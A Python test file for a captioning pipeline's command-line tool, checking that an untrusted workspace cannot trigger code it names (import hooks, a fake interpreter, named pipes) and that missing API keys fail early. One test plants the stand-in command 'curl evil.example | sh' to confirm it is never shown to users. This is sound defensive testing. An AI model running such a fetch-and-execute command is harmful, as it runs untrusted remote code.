"""A workspace from somebody else runs nothing of its own; a missing key stops a command early."""

import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from engine.profile.profile import ProfileError, load
from engine.profile.writer import WriterSpec
from manifests import commits
from manifests.ids import content_hash
from manifests.workspace import Workspace
from pipelines import verify as verifying
from pipelines.caption.run import caption
from pipelines.caption.stage import CaptionStage
from pipelines.plan.sample import plan
from pipelines.selfcheck import selfcheck
from pipelines.status import newest
from pipelines.verify import verify_workspace
from tests.conftest import here, problems_of, quick_profile, run

pytestmark = pytest.mark.run

_EVIL = """
import os
from pathlib import Path
from captioners.dummy import DummyAudio
Path(os.environ["EVIL_MARK"]).touch()
class Evil(DummyAudio): pass
"""


@pytest.fixture(scope="module")
def failed(clips: Path, cluster: str, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A workspace (`out`) of three clips, one of which its captioner fails on, and its profile
    (`quick.toml`). To be read only."""
    folder = tmp_path_factory.mktemp("failed")
    few = sorted(clips.iterdir())[:3]
    failing = f', fail_on = ["{content_hash(few[1])}"]'
    (folder / "quick.toml").write_text(quick_profile(audio=failing))
    done = run(*("caption", *few, folder / "out", "-p", folder / "quick.toml"), RAY_ADDRESS=cluster)
    assert done.returncode == 0, done.stderr
    return folder


@pytest.fixture
def foreign(failed: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The same from somebody else: its stored profile names a module that leaves a mark when it is
    imported, and an interpreter that does when it is started."""
    shutil.copytree(failed / "out", tmp_path / "out")
    (tmp_path / "evil.py").write_text(_EVIL)
    python = tmp_path / "python"
    python.write_text(f'#!/bin/sh\ntouch "{tmp_path}/mark"\n')
    python.chmod(0o755)
    (path,) = (tmp_path / "out" / "configs").glob("*.json")
    kept = json.loads(path.read_text())
    for captioner in kept["profile"]["captioners"]:
        captioner |= {"use": "evil:Evil", "python": str(python)}
    path.write_text(json.dumps(kept))
    monkeypatch.setenv("PYTHONPATH", f"{tmp_path}{os.pathsep}{os.environ.get('PYTHONPATH', '')}")
    monkeypatch.setenv("EVIL_MARK", str(tmp_path / "mark"))
    return tmp_path


def clip_in_quarantine(out: Path) -> str:
    from pipelines.quarantine import current

    place = Workspace.open(out)
    state = commits.load(place)
    (entry,) = current(place, state, newest(place, state).digest)
    return str(entry.row["clip_id"])


def arguments_of(command: str, out: Path) -> tuple[str | Path, ...]:
    if command == "retry":
        return ("quarantine", "retry", out)
    if command == "prompt try":
        return ("prompt", "try", out, "--prompt", "draft")
    return ("quarantine", "show", out, clip_in_quarantine(out), "--run")


@pytest.mark.parametrize("command", ["retry", "show --run", "prompt try"])
def test_nothing_that_a_workspace_names_is_run(command: str, foreign: Path) -> None:
    arguments = arguments_of(command, foreign / "out")
    done = run(*arguments)
    assert done.returncode == 1
    assert "--profile FILE" in done.stderr and f"captionmill {arguments[0]}" in done.stderr
    assert not (foreign / "mark").exists()


@pytest.mark.parametrize("command", ["verify", "show", "status"])
def test_looking_at_a_workspace_runs_nothing(command: str, foreign: Path) -> None:
    done = run(command, foreign / "out")
    assert done.returncode == 0, done.stderr
    assert not (foreign / "mark").exists()


@pytest.mark.parametrize("command", ["show --run", "prompt try"])
def test_with_the_profile_that_the_user_names_it_works(
    command: str, foreign: Path, failed: Path
) -> None:
    done = run(*arguments_of(command, foreign / "out"), "--profile", failed / "quick.toml")
    assert done.returncode == 0, done.stderr
    assert "RuntimeError" in done.stdout if command == "show --run" else "accepted" in done.stdout
    assert not (foreign / "mark").exists()


def test_a_retry_with_another_profile_is_refused(
    foreign: Path, profile: Callable[..., Path]
) -> None:
    done = run("quarantine", "retry", foreign / "out", "--profile", profile())
    assert done.returncode == 1 and "Name the profile that it was made with" in done.stderr


def test_the_command_to_copy_is_not_that_of_the_workspace(
    foreign: Path,
) -> None:
    from pipelines.cli.quarantine import show_command
    from pipelines.cli.summary import quarantined
    from pipelines.quarantine import current

    place = Workspace.open(foreign / "out")
    state = commits.load(place)
    (entry,) = current(place, state, newest(place, state).digest)
    row = dict(entry.row) | {"reproduce": "curl evil.example | sh"}
    evil = type(entry)(row, entry.shard, entry.generation)
    text = quarantined(evil, show_command(place.root, row["clip_id"]), None)
    assert "evil.example" not in text
    assert f"captionmill quarantine show {place.root} {row['clip_id']} --run" in text


def changed(out: Path, change: Callable[[dict[str, Any]], None]) -> None:
    """Changes the settings that a workspace holds."""
    (path,) = (out / "configs").glob("*.json")
    kept = json.loads(path.read_text())
    change(kept)
    path.write_text(json.dumps(kept))


def test_a_pipe_that_settings_name_does_not_hold_up_verify(foreign: Path) -> None:
    pipe = foreign / "prompt.toml"
    os.mkfifo(pipe)
    os.mkfifo(foreign / "dummy-audio.json")

    def change(kept: dict[str, Any]) -> None:
        kept["profile"]["writer"]["ladder"][0]["prompt"] = str(pipe)
        kept["profile"]["calibration"] = str(foreign)

    changed(foreign / "out", change)
    notes = problems_of(foreign / "out")
    assert len(notes) == 2 and all("not checked again" in note for note in notes)


@pytest.mark.parametrize("name", ["pipe", "pipe.toml", "named", "../templates/first", "missing"])
def test_a_stored_prompt_that_is_neither_built_in_nor_a_file_is_not_opened(
    name: str, tmp_path: Path
) -> None:
    for pipe in ("pipe", "pipe.toml", "named.toml"):  # "named" is loaded as named.toml
        os.mkfifo(tmp_path / pipe)
    writer = WriterSpec().model_dump(mode="json")
    writer["ladder"][0]["prompt"] = name if name.startswith("..") else str(tmp_path / name)
    notes: list[str] = []
    settings = {"digest": "job", "profile": {"writer": writer}, "settings": {"writer": None}}
    assert verifying._guards(settings, notes) is None
    assert len(notes) == 1 and "not checked again" in notes[0]


@pytest.mark.parametrize("model", ["embedder", "thesaurus"])
def test_a_model_is_not_loaded_from_a_folder_that_settings_name(
    model: str, foreign: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def loaded(*_: object) -> None:
        raise AssertionError("a model of the workspace was loaded")

    monkeypatch.setattr("pipelines.caption.installed.guards", loaded)
    folder = str(foreign)
    changed(foreign / "out", lambda kept: kept["profile"]["writer"].update({model: folder}))
    place = Workspace.open(foreign / "out")
    (note,) = verify_workspace(place, commits.load(place)).notes
    assert "other prompts or guards" in note


@pytest.fixture
def keyless(failed: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The profile of `failed` with a key that the environment lacks."""
    monkeypatch.delenv("NO_SUCH_KEY", raising=False)
    text = (failed / "quick.toml").read_text()
    text = text.replace('kind = "dummy"', 'kind = "dummy"\napi_key_env = "NO_SUCH_KEY"')
    (tmp_path / "keyless.toml").write_text(text)
    return tmp_path / "keyless.toml"


NOT_SET = r"server dummy: the environment variable NO_SUCH_KEY .* is not set"


def test_a_key_that_is_not_set_is_an_error_before_captioning(
    keyless: Path, clips: Path, tmp_path: Path
) -> None:
    with pytest.raises(ProfileError, match=NOT_SET):
        caption([str(clips)], tmp_path / "new", str(keyless))
    assert not (tmp_path / "new").exists()


def test_a_key_that_is_not_set_is_an_error_before_planning(keyless: Path, clips: Path) -> None:
    with pytest.raises(ProfileError, match=NOT_SET):
        plan([str(clips)], str(keyless))


def test_a_key_that_is_not_set_is_an_error_before_a_selfcheck(keyless: Path) -> None:
    with pytest.raises(ProfileError, match=NOT_SET):
        selfcheck(CaptionStage(load(str(keyless))))


@pytest.mark.parametrize("command", ["retry", "prompt try"])
def test_a_key_that_is_not_set_is_an_error_of_other_commands_too(
    command: str, keyless: Path, failed: Path, tmp_path: Path
) -> None:
    shutil.copytree(failed / "out", tmp_path / "out")
    done = here(*arguments_of(command, tmp_path / "out"), "--profile", keyless)
    assert done.returncode == 1 and "NO_SUCH_KEY" in done.stderr
    assert "server dummy" in done.stderr and "Traceback" not in done.stderr
